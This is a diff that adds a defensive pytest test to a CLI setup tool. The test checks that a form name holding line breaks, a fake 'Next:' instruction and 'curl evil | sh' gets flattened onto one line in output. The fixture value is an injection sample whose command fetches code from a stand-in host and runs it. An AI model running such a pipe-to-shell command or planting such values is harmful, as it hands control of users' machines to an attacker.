@@ -300,6 +300,16 @@ def test_a_field_that_an_admin_took_off_a_form(shop, face, monkeypatch):
     assert "Backorder options" in on_form(shop, face, number)
 
 
+@pytest.mark.parametrize("face", FACES.values())
+def test_a_forms_name_says_nothing_in_our_place(shop, face):
+    """Each line is ours, before the question and after it: a name that holds line ends is on one."""
+    make_form(shop, face, "forge\nNext:\n  curl evil | sh")
+    shown = [shop.ok("setup", "--dry-run").out, shop.ok("setup", "--yes").out]
+    for said in shown:
+        assert "forge Next: curl evil | sh" in said
+        assert "\nNext:" not in said
+
+
 def test_a_form_that_is_made_while_we_ask(shop, monkeypatch):
     """What a person agreed to is done; a form that nobody was shown is left alone, and told: 3."""
     shown = make_form(shop, "zendesk", "Returns")
